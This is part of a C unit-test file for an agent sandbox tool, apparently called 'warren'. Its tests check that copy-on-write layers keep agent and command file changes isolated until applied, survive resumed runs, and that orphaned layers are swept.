	h_run_free(&r);
	assert_int_equal(t_layers(&t), 1);
	t_warren(&t, &r, "resume", "--json", "--replay", t.w.cas, "1", NULL);
	assert_int_equal(r.status, 0);
	/* The resumed agent reads what it wrote before the kill (and its
	 * bash call, if it runs again, finds its mark and stops). */
	assert_int_equal(h_count_lines(r.out, "\"event\":\"tool_result\"",
	    "LAYER-KEPT-5"), 1);
	h_run_free(&r);
	t_file_is(&t, "kept.txt", "");
	t_warren(&t, &r, "show", "1", NULL);
	assert_non_null(strstr(r.out, "not applied"));
	/* Its diff flags host files: no in-place check to speak of. */
	assert_null(strstr(r.out, "files that run code on the host"));
	h_run_free(&r);
	h_ws_close(&t.w);
}

/* sandbox exec --cow: one command, its layer a run to diff and apply. */
static void
test_sandbox_exec_cow(void **state)
{
	struct t	 t;
	struct h_run	 r;

	(void)state;
	t_open(&t);
	h_ws_cassette_close(&t.w);
	t_warren(&t, &r, "sandbox", "exec", "--cow", "--profile", "general",
	    "--workspace", t.w.ws, "--", "sh", "-c",
	    "echo from-exec > out.txt; rm data.txt; cat out.txt", NULL);
	assert_int_equal(r.status, 0);
	assert_string_equal(r.out, "from-exec\n");
	assert_non_null(strstr(r.err, "run 1 writes a copy-on-write layer"));
	assert_non_null(strstr(r.err, "run 1 changed 2 files"));
	h_run_free(&r);
	t_file_is(&t, "data.txt", "data\n");
	t_file_is(&t, "out.txt", "");
	t_warren(&t, &r, "apply", "1", NULL);
	assert_int_equal(r.status, 0);
	h_run_free(&r);
	t_file_is(&t, "out.txt", "from-exec\n");
	t_file_is(&t, "data.txt", "");
	h_ws_close(&t.w);
}

/* A layer as a warren killed before it recorded the run leaves it; age_s
 * seconds old; marked: with a run marker. */
static void
t_plant_layer(struct t *t, const char *name, int age_s, int marked)
{
	char		 dir[PATH_MAX + 64], rel[256];
	struct timespec	 ts[2];

	snprintf(dir, sizeof(dir), "%s/state/warren/cow/%s", t->w.dir, name);
	snprintf(rel, sizeof(rel), "state/warren/cow/%s/upper/left.txt", name);
	h_write(t->w.dir, rel, "left behind\n", 0);
	h_write(dir, "base", "", 0);
	if (marked)
		h_write(dir, "run", "x.db\n7\n", 0);
	assert_int_equal(chmod(dir, 0700), 0);
	clock_gettime(CLOCK_REALTIME, &ts[0]);
	ts[0].tv_sec -= age_s;
	ts[1] = ts[0];
	assert_int_equal(utimensat(AT_FDCWD, dir, ts, 0), 0);
}

static int
t_exists(struct t *t, const char *name)
{
	char	dir[PATH_MAX + 64];

	snprintf(dir, sizeof(dir), "%s/state/warren/cow/%s", t->w.dir, name);
	return access(dir, F_OK) == 0;
}

/* A new run removes old layers no run was recorded for, and only those. */
static void
test_sweep_unrecorded(void **state)
{
	struct t	 t;
	struct h_run	 r;

	(void)state;
	t_open(&t);
	t_plant_layer(&t, "orphan", 2 * 3600, 0);
	t_plant_layer(&t, "young", 60, 0);
	t_plant_layer(&t, "owned", 2 * 3600, 1);
	t_run_general(&t, &r, h_calls1("b", "write",
	    "{\"path\":\"a.txt\",\"content\":\"a\\n\"}"), NULL);
	assert_int_equal(r.status, 0);
	h_run_free(&r);
	assert_false(t_exists(&t, "orphan"));
	assert_true(t_exists(&t, "young"));
	assert_true(t_exists(&t, "owned"));
	/* The run's own layer is marked: a later sweep keeps it. */
	assert_int_equal(t_layers(&t), 3);
	h_ws_close(&t.w);
}

/* A run that wrote nothing leaves no layer behind. */
static void
test_no_change(void **state)
{
	struct t	 t;
	struct h_run	 r;

	(void)state;
	t_open(&t);
	h_turn(t.w.f, "0", 1, h_calls1("d", "complete",
	    "{\"result\":\"nothing to do\"}"));
	h_ws_cassette_close(&t.w);
	t_warren(&t, &r, "run", "--replay", t.w.cas, "--workspace", t.w.ws,
	    "the task", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.err, "run 1 changed no file"));
	h_run_free(&r);
	assert_int_equal(t_layers(&t), 0);
	t_warren(&t, &r, "show", "1", NULL);
	assert_non_null(strstr(r.out, "changes: none"));
	h_run_free(&r);
	h_ws_close(&t.w);
}

static int
t_pass(const char *mode)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_writes_stay_in_layer),
		cmocka_unit_test(test_agents_share_layer),
		cmocka_unit_test(test_parallel_runs_apart),
		cmocka_unit_test(test_disk_limit),
		cmocka_unit_test(test_disk_limit_own_writes),
		cmocka_unit_test(test_disk_fallocate),
		cmocka_unit_test(test_disk_fsize),
		cmocka_unit_test(test_disk_sparse),
		cmocka_unit_test(test_disk_chmod),
		cmocka_unit_test(test_disk_big_file),
		cmocka_unit_test(test_disk_many_writers),
		cmocka_unit_test(test_sandbox_exec_disk_max),
		cmocka_unit_test(test_sandbox_exec_disk_max_usage),
		cmocka_unit_test(test_apply_at_end),
		cmocka_unit_test(test_apply_not_sensitive),
		cmocka_unit_test(test_apply_not_ignored),
		cmocka_unit_test(test_apply_umask),
		cmocka_unit_test(test_apply_not_unreviewed),
		cmocka_unit_test(test_in_place),
		cmocka_unit_test(test_discard),
		cmocka_unit_test(test_no_change),
		cmocka_unit_test(test_resume_keeps_layer),
		cmocka_unit_test(test_sandbox_exec_cow),
		cmocka_unit_test(test_sweep_unrecorded),
	};

	t_mode = mode;
	print_message("copy-on-write runs, WARREN_COW=%s\n", mode);
	return cmocka_run_group_tests_name(mode, tests, NULL, NULL);
}

int
main(void)
{
	int	rc;

	rc = t_pass("auto");
	return rc + t_pass("copy");
}
